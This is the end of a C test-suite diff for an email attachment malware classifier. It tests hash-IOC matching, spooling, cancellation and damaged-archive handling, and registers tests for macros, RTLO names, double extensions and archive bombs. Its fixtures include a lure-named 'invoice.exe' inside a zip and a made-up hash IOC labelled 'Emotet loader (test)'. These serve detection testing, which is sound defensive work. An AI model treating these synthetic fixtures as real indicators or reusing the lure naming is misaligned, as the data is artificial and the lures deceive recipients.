+      g_assert_cmpmem (spool.sha256, 32, digest, 32);
+      g_assert_cmpuint (spool.size, ==, original->len);
+      g_assert_cmpuint (spool.longest_len, ==, 5 << 20);
+      g_assert_cmpuint (spool.longest_start, ==, original->len - (5 << 20));
+      kept = _taiou_spool_get_data (&spool, &kept_len);
+      /* The tail run is elided past 1 MiB; everything before it is kept byte for byte. */
+      g_assert_cmpuint (kept_len, ==, original->len - (4 << 20));
+      g_assert_cmpmem (kept, kept_len, original->data, kept_len);
+      g_assert_cmpuint (spool.tail_fill, ==, 4 << 20);
+      while ((n = _taiou_spool_read_at (&spool, offset, &view, 100000)) > 0)
+        {
+          g_assert_cmpmem (view, n, original->data + offset, n);
+          offset += n;
+        }
+      g_assert_cmpuint (offset, ==, original->len);
+      _taiou_spool_clear (&spool);
+    }
+}
+
+static void
+test_ioc (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  g_autoptr(GBytes) zip = taiou_test_zip_of ("invoice.exe", pe);
+  g_autofree char *hex = sha256_hex (pe);
+  g_autofree char *list = g_strdup_printf ("%s;90;Emotet loader (test)\n", hex);
+  const char *other_list = "00000000000000000000000000000000000000000000000000000000000000"
+                           "01;90;unrelated\n";
+  g_autoptr(TaiouIocSet) iocs = taiou_ioc_set_new ();
+  g_autoptr(TaiouIocSet) other = taiou_ioc_set_new ();
+  g_autoptr(TaiouIocLoadReport) load = NULL;
+  g_autoptr(TaiouIocLoadReport) load_other = NULL;
+  g_autoptr(TaiouAttachmentReport) report = NULL;
+  g_autoptr(TaiouAttachmentReport) clean = NULL;
+  g_autoptr(GError) error = NULL;
+  TaiouFinding *finding;
+
+  load = taiou_ioc_set_load_data (iocs, "hash-iocs.txt", list, strlen (list),
+                                  TAIOU_IOC_FORMAT_LOKI_HASH, &error);
+  g_assert_no_error (error);
+  load_other = taiou_ioc_set_load_data (other, "hash-iocs.txt", other_list, strlen (other_list),
+                                        TAIOU_IOC_FORMAT_LOKI_HASH, &error);
+  g_assert_no_error (error);
+  report = classify_full ("請求書.zip", zip, NULL, NULL, iocs);
+  clean = classify_full ("請求書.zip", zip, NULL, NULL, other);
+  finding = finding_at (report, "請求書.zip/invoice.exe", "ioc.sha256");
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 90);
+  g_assert_cmpstr (finding->sha256, ==, hex);
+  g_assert_nonnull (strstr (finding->evidence, "Emotet loader (test)"));
+  g_assert_false (anywhere (clean, "ioc.sha256"));
+}
+
+static void
+test_cancel (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
+  g_autoptr(GError) error = NULL;
+  g_autoptr(TaiouAttachmentReport) report = NULL;
+
+  g_cancellable_cancel (cancellable);
+  report = taiou_attachment_classify_bytes ("a.exe", pe, NULL, cancellable, &error);
+  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+  g_assert_null (report);
+}
+
+static void
+test_damaged (void)
+{
+  g_autoptr(GBytes) text = taiou_test_bytes_printf ("hello hello");
+  g_autoptr(GBytes) zip = taiou_test_zip_of ("a.txt", text);
+  g_autoptr(GBytes) ole = taiou_test_bytes_printf ("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 broken");
+  g_autoptr(GBytes) cut = g_bytes_new_from_bytes (zip, 0, 40);
+  g_autoptr(TaiouAttachmentReport) ole_report = classify ("a.doc", ole);
+  g_autoptr(TaiouAttachmentReport) zip_report = classify ("a.zip", cut);
+
+  g_assert_nonnull (finding_at (ole_report, NULL, "attachment.unreadable"));
+  g_assert_nonnull (finding_at (zip_report, NULL, "attachment.unreadable"));
+}
+
+int
+main (int    argc,
+      char **argv)
+{
+  /* As the app and the CLI do; the fixtures' archive writers convert names through it. */
+  setlocale (LC_ALL, "");
+  if (argc == 3 && g_strcmp0 (argv[1], "--write-corpus") == 0)
+    {
+      taiou_test_write_corpus (argv[2]);
+      return 0;
+    }
+
+  g_test_init (&argc, &argv, NULL);
+  g_test_add_func ("/taiou/attachment/pe", test_pe);
+  g_test_add_func ("/taiou/attachment/double-extension", test_double_extension);
+  g_test_add_func ("/taiou/attachment/rtlo", test_rtlo);
+  g_test_add_func ("/taiou/attachment/script", test_script);
+  g_test_add_func ("/taiou/attachment/lnk", test_lnk);
+  g_test_add_func ("/taiou/attachment/onenote", test_onenote);
+  g_test_add_func ("/taiou/attachment/ole-macros", test_ole_macros);
+  g_test_add_func ("/taiou/attachment/xlm-biff", test_xlm_biff);
+  g_test_add_func ("/taiou/attachment/ooxml", test_ooxml);
+  g_test_add_func ("/taiou/attachment/zip-nested", test_zip_nested);
+  g_test_add_func ("/taiou/attachment/zip-encrypted", test_zip_encrypted);
+  g_test_add_func ("/taiou/attachment/zip-password-in-body", test_zip_password_in_body);
+  g_test_add_func ("/taiou/attachment/find-password", test_find_password);
+  g_test_add_func ("/taiou/attachment/7z-and-iso", test_7z_and_iso);
+  g_test_add_func ("/taiou/attachment/limits-depth", test_limits_depth);
+  g_test_add_func ("/taiou/attachment/limits-members", test_limits_members);
+  g_test_add_func ("/taiou/attachment/limits-bomb", test_limits_bomb);
+  g_test_add_func ("/taiou/attachment/padded", test_padded);
+  g_test_add_func ("/taiou/attachment/spool", test_spool);
+  g_test_add_func ("/taiou/attachment/ioc", test_ioc);
+  g_test_add_func ("/taiou/attachment/cancel", test_cancel);
+  g_test_add_func ("/taiou/attachment/damaged", test_damaged);
+  return g_test_run ();
+}
